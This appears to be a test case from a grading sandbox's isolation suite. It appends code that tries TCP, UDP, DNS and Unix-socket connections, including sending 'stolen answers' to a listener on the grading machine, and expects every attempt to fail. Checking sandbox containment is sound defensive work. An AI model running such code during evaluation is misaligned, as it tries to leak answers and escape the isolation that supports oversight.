"""Open network connections: TCP to a port listening on the grading machine's
loopback (the suite's listener), UDP to it, a DNS lookup, and a Unix socket on the
grading machine.

Reaches nothing: the sandbox has its own network namespace (no interface but a loopback
that is down) and its own filesystem (the Unix socket's path does not exist).
"""

CATEGORY = "network"
REQUIRES = ("network", "filesystem")
MARKS = ("no_connection",)

APPEND = [
    '''import socket

for host in ("127.0.0.1", "localhost"):
    try:
        s = socket.create_connection((host, ATTACK["port"]), timeout=1)
        s.sendall(b"stolen answers")
        s.close()
        print("connected to", host)
    except Exception as exc:
        print(host, type(exc).__name__, exc)
try:
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(b"udp", ("127.0.0.1", ATTACK["port"]))
except Exception as exc:
    print("udp", type(exc).__name__)
try:
    print(socket.getaddrinfo("example.com", 80))
except Exception as exc:
    print("dns", type(exc).__name__)
try:
    us = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    us.connect(ATTACK["unix_socket"])
    us.sendall(b"unix")
    print("unix socket connected")
except Exception as exc:
    print("unix", type(exc).__name__)
''',
]
